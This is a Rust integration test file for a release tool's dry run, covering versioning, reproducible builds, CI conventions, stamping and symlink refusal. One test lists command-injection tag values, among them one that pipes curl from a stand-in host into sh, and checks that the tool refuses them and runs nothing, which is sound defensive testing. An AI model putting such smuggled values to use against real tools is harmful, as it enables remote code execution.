//! `xtask release --dry-run` end to end on a copy of the repository: version
//! resolution, hostile tags, preflight, stamping, the pinned tools, reproducible
//! builds, verification and the GitHub Actions conventions.

use std::{
    ffi::OsStr,
    fs,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
};

use crate::support::{self, TempDir, copy_repo, git, text, xtask};

fn manifest(repo: &Path, version: &str) -> serde_json::Value {
    let path = repo.join("target/dist").join(version).join("manifest.json");
    let text = fs::read_to_string(&path).unwrap_or_else(|err| panic!("read {}: {err}", path.display()));
    serde_json::from_str(&text).unwrap()
}

fn about(repo: &Path) -> String {
    fs::read_to_string(repo.join("yamause/__about__.py")).unwrap()
}

/// Every file under `dir` (but `.git`) with its contents.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.file_name() == Some(OsStr::new(".git")) {
                continue;
            }
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push((path.clone(), fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn dry_run_twice_builds_identical_verified_files() {
    // The snapshot below shows the release tools reused: provision them first, so
    // that the first run does not print their install when it is the first to need
    // them.
    crate::support::tools_python("release");
    let repo = copy_repo("reproducible");
    let mut hashes = Vec::new();
    for _ in 0..2 {
        let out = xtask(repo.path(), &["release", "v1.2.3-RC.1", "--dry-run"], &[]);
        let log = text(&out);
        assert!(out.status.success(), "{log}");
        // The whole printed run, reviewed: each step in order and what it says; the
        // second run prints the same.
        insta::assert_snapshot!("dry_run", crate::support::snapshot_text(&out, repo.path()));
        let manifest = manifest(repo.path(), "1.2.3rc1");
        assert_eq!(manifest["version"], "1.2.3rc1");
        let files = manifest["files"].as_array().unwrap();
        assert_eq!(files.len(), 2, "{manifest}");
        for file in files {
            let name = file["file"].as_str().unwrap();
            assert!(name.starts_with("yamause-1.2.3rc1"), "{name}");
            let sha = file["sha256"].as_str().unwrap();
            assert!(log.contains(&format!("sha256:{sha}")), "hash of {name} not printed:\n{log}");
        }
        hashes.push(files.clone());
    }
    assert_eq!(hashes[0], hashes[1], "two builds of one commit must be byte-identical");
    // Outside CI the version file is stamped for the build only, then restored:
    // nothing changed in the tree (target/ is ignored).
    assert!(about(repo.path()).contains("__version__ = \"0.1.0\""), "{}", about(repo.path()));
    assert_eq!(git(repo.path(), &["status", "--porcelain"]), "");
}

#[test]
fn hostile_tags_create_no_file_and_run_nothing() {
    let repo = copy_repo("hostile");
    // Every program the release could run is a trap that leaves a marker.
    let bin = TempDir::new("hostile-bin");
    let marker = bin.path().join("ran");
    for program in ["git", "python3", "uv", "sh", "bash", "id", "curl", "touch"] {
        let path = bin.path().join(program);
        fs::write(&path, format!("#!/bin/sh\necho \"$0 $*\" >> '{}'\n", marker.display())).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let before = snapshot(repo.path());
    let hostile = [
        "v1$(id)",
        "v1`id`",
        "v1;id;#",
        "v1|id",
        "v1&&touch pwned",
        "v1\"$(curl${IFS}-sL${IFS}x.example|sh)\"",
        "v1\nid",
    ];
    for tag in hostile {
        // As an argument, and as the pushed tag of a GitHub Actions run.
        let path = bin.path().as_os_str();
        let runs = [
            xtask(repo.path(), &["release", tag, "--dry-run"], &[("PATH", path)]),
            xtask(
                repo.path(),
                &["release", "--dry-run"],
                &[
                    ("PATH", path),
                    ("GITHUB_ACTIONS", OsStr::new("true")),
                    ("GITHUB_REF_TYPE", OsStr::new("tag")),
                    ("GITHUB_REF_NAME", OsStr::new(tag)),
                ],
            ),
        ];
        for out in runs {
            let log = text(&out);
            assert!(!out.status.success(), "{tag:?} was accepted:\n{log}");
            assert!(log.contains(&format!("refusing tag {tag:?}")), "{tag:?} not shown quoted:\n{log}");
            assert!(log.contains("nothing was run"), "{log}");
        }
    }
    assert!(!marker.exists(), "a program ran: {}", fs::read_to_string(&marker).unwrap_or_default());
    assert!(snapshot(repo.path()) == before, "the tree changed");
}

#[test]
fn error_in_github_actions_is_an_annotation() {
    let repo = copy_repo("annotation");
    let out = xtask(repo.path(), &["release", "not-a-version", "--dry-run"], &[("GITHUB_ACTIONS", OsStr::new("true"))]);
    let log = text(&out);
    assert!(!out.status.success());
    assert!(log.lines().any(|l| l.starts_with("::error::") && l.contains("not a PEP 440 version")), "{log}");
}

#[test]
fn github_tag_push_releases_the_pushed_tag_with_groups_and_summary() {
    let repo = copy_repo("github");
    git(repo.path(), &["tag", "v2.0.0"]);
    let summary = repo.path().join("summary.md");
    let out = xtask(
        repo.path(),
        &["release", "--dry-run"],
        &[
            ("GITHUB_ACTIONS", OsStr::new("true")),
            ("CI", OsStr::new("true")),
            ("GITHUB_REF_TYPE", OsStr::new("tag")),
            ("GITHUB_REF_NAME", OsStr::new("v2.0.0")),
            ("GITHUB_STEP_SUMMARY", summary.as_os_str()),
        ],
    );
    let log = text(&out);
    assert!(out.status.success(), "{log}");
    assert!(log.contains("from GITHUB_REF_NAME \"v2.0.0\""), "{log}");
    assert_eq!(log.matches("::group::").count(), 9, "{log}");
    assert_eq!(log.matches("::endgroup::").count(), 9, "{log}");
    // Child output can never start a workflow command line.
    assert!(
        log.lines()
            .filter(|l| l.trim_start().starts_with("::"))
            .all(|l| l.starts_with("::group::") || l == "::endgroup::")
    );
    let md = fs::read_to_string(&summary).unwrap();
    let manifest = manifest(repo.path(), "2.0.0");
    for file in manifest["files"].as_array().unwrap() {
        let row = format!(
            "| `{}` | {} | `{}` |",
            file["file"].as_str().unwrap(),
            file["size"],
            file["sha256"].as_str().unwrap()
        );
        assert!(md.contains(&row), "{row} not in summary:\n{md}");
    }
}

#[test]
fn manual_dispatch_releases_the_version_file_untouched() {
    let repo = copy_repo("manual");
    let about_path = repo.path().join("yamause/__about__.py");
    fs::write(&about_path, "# keep\r\n__version__ = '3.1.0'  # comment\r\n").unwrap();
    git(repo.path(), &["commit", "-qam", "3.1.0"]);
    let mtime = fs::metadata(&about_path).unwrap().modified().unwrap();
    let out = xtask(repo.path(), &["release", "--dry-run"], &[]);
    let log = text(&out);
    assert!(out.status.success(), "{log}");
    assert!(log.contains("releasing yamause 3.1.0 (from the version file yamause/__about__.py)"), "{log}");
    assert!(log.contains("already says 3.1.0; left untouched"), "{log}");
    assert_eq!(fs::metadata(&about_path).unwrap().modified().unwrap(), mtime);
    assert_eq!(manifest(repo.path(), "3.1.0")["version"], "3.1.0");
}

#[test]
fn stamping_keeps_the_rest_of_the_file_byte_for_byte() {
    let repo = copy_repo("stamp");
    let about_path = repo.path().join("yamause/__about__.py");
    // UTF-8 with a byte order mark, CRLF and non-ASCII text (latin-1 files are covered
    // by the unit tests: hatchling itself reads the file as UTF-8).
    fs::write(&about_path, "\u{feff}# Café ☕\r\n__version__ = '0.0.1'  # c\r\nX = 1\r\n").unwrap();
    git(repo.path(), &["commit", "-qam", "utf-8"]);
    let original = fs::read(&about_path).unwrap();
    // In CI the stamped file stays (it is what the job builds): check it byte for byte.
    let out = xtask(repo.path(), &["release", "v0.2", "--dry-run"], &[("CI", OsStr::new("true"))]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(fs::read_to_string(&about_path).unwrap(), "\u{feff}# Café ☕\r\n__version__ = '0.2'  # c\r\nX = 1\r\n");
    // Outside CI it is restored byte for byte after the build.
    fs::write(&about_path, &original).unwrap();
    let out = xtask(repo.path(), &["release", "v0.3", "--dry-run"], &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("yamause/__about__.py ([tool.hatch.version] path): 0.0.1 → 0.3"), "{}", text(&out));
    assert!(text(&out).contains("restored"), "{}", text(&out));
    assert_eq!(fs::read(&about_path).unwrap(), original);
}

#[test]
fn a_broken_version_file_is_named() {
    let repo = copy_repo("broken-about");
    fs::write(repo.path().join("yamause/__about__.py"), "__version__ = '1'\n__version__ = '2'\n").unwrap();
    git(repo.path(), &["commit", "-qam", "two"]);
    let out = xtask(repo.path(), &["release", "v1.0", "--dry-run"], &[]);
    let log = text(&out);
    assert!(!out.status.success());
    assert!(log.contains("yamause/__about__.py assigns `__version__` 2 times (lines 1, 2)"), "{log}");
}

#[test]
fn dirty_tree_is_refused_outside_ci_unless_allowed() {
    let repo = copy_repo("dirty");
    fs::write(repo.path().join("yamause/stray.py"), "x = 1\n").unwrap();
    let out = xtask(repo.path(), &["release", "v1.0", "--dry-run"], &[]);
    let log = text(&out);
    assert!(!out.status.success());
    assert!(
        log.contains("uncommitted changes") && log.contains("yamause/stray.py") && log.contains("--allow-dirty"),
        "{log}"
    );
    // Nothing was stamped: the preflight comes before any side effect.
    assert!(about(repo.path()).contains("\"0.1.0\""), "{}", about(repo.path()));

    let out = xtask(repo.path(), &["release", "v1.0", "--dry-run", "--allow-dirty"], &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("warning: releasing with uncommitted changes (--allow-dirty)"));
    let out = xtask(repo.path(), &["release", "v1.0", "--dry-run"], &[("CI", OsStr::new("true"))]);
    assert!(out.status.success(), "{}", text(&out));
}

#[test]
fn a_tag_that_is_not_head_is_warned_about() {
    let repo = copy_repo("tag");
    git(repo.path(), &["tag", "v1.0.0"]);
    fs::write(repo.path().join("README.md"), "# yamause\n\nchanged after the tag\n").unwrap();
    git(repo.path(), &["commit", "-qam", "after"]);
    let out = xtask(repo.path(), &["release", "v1.0.0", "--dry-run"], &[]);
    let log = text(&out);
    assert!(out.status.success(), "{log}");
    assert!(log.contains("warning: tag v1.0.0 points at") && log.contains("not at HEAD"), "{log}");
}

#[test]
fn runs_from_a_subdirectory_and_replaces_stale_output() {
    let repo = copy_repo("subdir");
    let stale = repo.path().join("target/dist/1.0/yamause-0.0.1.tar.gz");
    fs::create_dir_all(stale.parent().unwrap()).unwrap();
    fs::write(&stale, "stale").unwrap();
    let out = xtask(&repo.path().join("yamause"), &["release", "v1.0", "--dry-run"], &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(!stale.exists());
    assert_eq!(manifest(repo.path(), "1.0")["files"].as_array().unwrap().len(), 2);
}

#[test]
fn verification_failures_stop_the_release() {
    // Without a readme the metadata has no long description: `twine check --strict`
    // refuses that, and so must the release.
    let repo = copy_repo("verify");
    let pyproject = fs::read_to_string(repo.path().join("pyproject.toml")).unwrap();
    fs::write(repo.path().join("pyproject.toml"), pyproject.replace("readme = \"README.md\"\n", "")).unwrap();
    git(repo.path(), &["commit", "-qam", "no readme"]);
    let out = xtask(repo.path(), &["release", "v1.0", "--dry-run"], &[]);
    let log = text(&out);
    assert!(!out.status.success(), "{log}");
    assert!(log.contains("[6/9] Verify: FAILED") && log.contains("twine check --strict"), "{log}");
}

#[test]
fn missing_programs_are_named_with_an_install_hint() {
    let repo = copy_repo("programs");
    let empty = TempDir::new("empty-path");
    let out = xtask(repo.path(), &["release", "v1.0", "--dry-run"], &[("PATH", empty.path().as_os_str())]);
    let log = text(&out);
    assert!(!out.status.success());
    assert!(log.contains("install git"), "{log}");

    // git present, python3 absent.
    let real_git = which("git");
    std::os::unix::fs::symlink(real_git, empty.path().join("git")).unwrap();
    let out = xtask(repo.path(), &["release", "v1.0", "--dry-run"], &[("PATH", empty.path().as_os_str())]);
    let log = text(&out);
    assert!(!out.status.success());
    assert!(log.contains("install Python 3.9 or newer"), "{log}");
}

fn which(program: &str) -> PathBuf {
    let path = std::env::var_os("PATH").unwrap();
    std::env::split_paths(&path)
        .map(|dir| dir.join(program))
        .find(|it| it.is_file())
        .unwrap_or_else(|| panic!("{program} is not on PATH: install it"))
}

#[test]
fn tools_are_reused_and_rebuilt_when_the_lock_changes() {
    let repo = copy_repo("tools");
    let tools = TempDir::new("tools-dir");
    let run = || {
        let out = xtask(repo.path(), &["tools", "release"], &[("XTASK_TOOLS_DIR", tools.path().as_os_str())]);
        assert!(out.status.success(), "{}", text(&out));
        text(&out)
    };
    assert!(run().contains("provisioning the release tools"));
    assert!(run().contains("reusing the release tools"));
    let lock = repo.path().join("xtask/tools/release.txt");
    let mut text = fs::read_to_string(&lock).unwrap();
    text.push_str("# changed\n");
    fs::write(&lock, text).unwrap();
    assert!(run().contains("provisioning the release tools"));
    assert!(support::tools_dir() != tools.path());
}

#[test]
fn tools_are_provisioned_with_uv_when_it_is_on_path() {
    let repo = copy_repo("uv");
    let tools = TempDir::new("uv-tools");
    // The pinned uv of the dev tools, first on PATH.
    let dev_bin = support::tools_python("dev").parent().unwrap().to_path_buf();
    let path =
        std::env::join_paths(std::iter::once(dev_bin).chain(std::env::split_paths(&std::env::var_os("PATH").unwrap())))
            .unwrap();
    let out = xtask(
        repo.path(),
        &["tools", "release"],
        &[("XTASK_TOOLS_DIR", tools.path().as_os_str()), ("PATH", path.as_os_str())],
    );
    let log = text(&out);
    assert!(out.status.success(), "{log}");
    assert!(log.contains("(with uv)") && log.contains("uv pip install"), "{log}");
    let python = String::from_utf8(out.stdout).unwrap();
    let check =
        std::process::Command::new(python.trim()).args(["-c", "import build, twine, packaging"]).output().unwrap();
    assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stderr));
}

/// A laptop whose AWS profile signs in through IAM Identity Center (SSO): the
/// release binary leaves SSO out (CI never needs it), so the command runs again from
/// a build with the `sso` feature, through cargo; run without cargo, it says how.
/// (cargo is a recording stand-in here: the real build takes minutes, and
/// `.ci/run` compiles the feature with clippy.)
#[test]
fn an_sso_profile_runs_the_command_again_with_sso_support() {
    let repo = copy_repo("sso");
    let scratch = TempDir::new("sso");
    let config = scratch.path().join("config");
    fs::write(
        &config,
        "[profile dev]\nsso_session = corp\nsso_account_id = 111122223333\nsso_role_name = Dev\n\n\
         [sso-session corp]\nsso_start_url = https://corp.awsapps.com/start\nsso_region = us-east-1\n\n\
         [profile publisher]\nrole_arn = arn:aws:iam::111122223333:role/p\nsource_profile = dev\n",
    )
    .unwrap();
    let vars =
        |profile: &'static str| vec![("AWS_CONFIG_FILE", config.as_os_str()), ("AWS_PROFILE", OsStr::new(profile))];

    let out = xtask(repo.path(), &["release", "v1.0.0", "--dry-run"], &vars("publisher"));
    let log = text(&out);
    assert!(!out.status.success(), "{log}");
    assert!(log.contains("the AWS profile `dev` signs in through IAM Identity Center (SSO)"), "{log}");
    assert!(log.contains("run it as `cargo xtask …`"), "{log}");
    assert_eq!(about(repo.path()), about(&support::repo_root()), "the version file changed");

    let args_file = scratch.path().join("cargo-args");
    let cargo = scratch.path().join("cargo");
    fs::write(&cargo, format!("#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\nexit 7\n", args_file.display())).unwrap();
    fs::set_permissions(&cargo, fs::Permissions::from_mode(0o755)).unwrap();
    let mut with_cargo = vars("dev");
    with_cargo.push(("CARGO", cargo.as_os_str()));
    let out = xtask(repo.path(), &["release", "v1.0.0", "--dry-run"], &with_cargo);
    assert_eq!(out.status.code(), Some(7), "the exit status of the rerun is passed on:\n{}", text(&out));
    let args = fs::read_to_string(&args_file).expect("cargo was run");
    let root = repo.path().display();
    assert_eq!(
        args,
        format!(
            "run\n--locked\n--quiet\n--package\nxtask\n--features\nsso\n--manifest-path\n{root}/Cargo.toml\n\
             --target-dir\n{root}/target/sso\n--\nrelease\nv1.0.0\n--dry-run\n"
        )
    );

    // Keys in the environment come first: no SSO, no rerun.
    fs::remove_file(&args_file).unwrap();
    with_cargo.push(("AWS_ACCESS_KEY_ID", OsStr::new("AKIDEXAMPLE")));
    with_cargo.push(("AWS_SECRET_ACCESS_KEY", OsStr::new("not-a-secret")));
    let out = xtask(repo.path(), &["release", "v1.0.0", "--dry-run"], &with_cargo);
    assert!(
        !args_file.exists() && text(&out).contains("Preflight"),
        "cargo ran for a build without SSO:\n{}",
        text(&out)
    );
}

/// The version file and every folder on its path inside the repository must be
/// what they seem: a link (the package folder linked out of the repository, or the
/// version file itself a link) is refused before the stamp with the path named, and
/// nothing is written through it or in its place, in CI and locally.
#[test]
fn the_stamp_never_writes_through_a_link() {
    let outside = TempDir::new("stamp-outside");
    for ci in [false, true] {
        let vars: Vec<(&str, &OsStr)> =
            if ci { vec![("GITHUB_ACTIONS", OsStr::new("true")), ("CI", OsStr::new("true"))] } else { vec![] };
        let label = if ci { "in CI" } else { "locally" };

        // The package folder is a link to a folder outside the repository.
        let repo = copy_repo("linked-folder");
        let package = outside.path().join(format!("yamause-{ci}"));
        fs::rename(repo.path().join("yamause"), &package).unwrap();
        std::os::unix::fs::symlink(&package, repo.path().join("yamause")).unwrap();
        git(repo.path(), &["add", "-A"]);
        git(repo.path(), &["commit", "-qm", "linked package folder"]);
        let before = fs::read(package.join("__about__.py")).unwrap();
        let out = xtask(repo.path(), &["release", "v2.0.0", "--build-only"], &vars);
        let log = text(&out);
        assert!(!out.status.success(), "{label}: a linked folder was stamped:\n{log}");
        assert!(log.contains("yamause") && log.contains("symbolic link"), "{label}: {log}");
        assert_eq!(fs::read(package.join("__about__.py")).unwrap(), before, "{label}: written through the link");

        // The version file itself is a link (to a file of the repository).
        let repo = copy_repo("linked-file");
        let about = repo.path().join("yamause/__about__.py");
        fs::rename(&about, repo.path().join("about.py")).unwrap();
        std::os::unix::fs::symlink("../about.py", &about).unwrap();
        git(repo.path(), &["add", "-A"]);
        git(repo.path(), &["commit", "-qm", "linked version file"]);
        let before = fs::read(repo.path().join("about.py")).unwrap();
        let out = xtask(repo.path(), &["release", "v2.0.0", "--build-only"], &vars);
        let log = text(&out);
        assert!(!out.status.success(), "{label}: a linked version file was stamped:\n{log}");
        assert!(log.contains("yamause/__about__.py") && log.contains("symbolic link"), "{label}: {log}");
        assert!(fs::symlink_metadata(&about).unwrap().file_type().is_symlink(), "{label}: the link was replaced");
        assert_eq!(fs::read(repo.path().join("about.py")).unwrap(), before, "{label}: written through the link");
    }
}
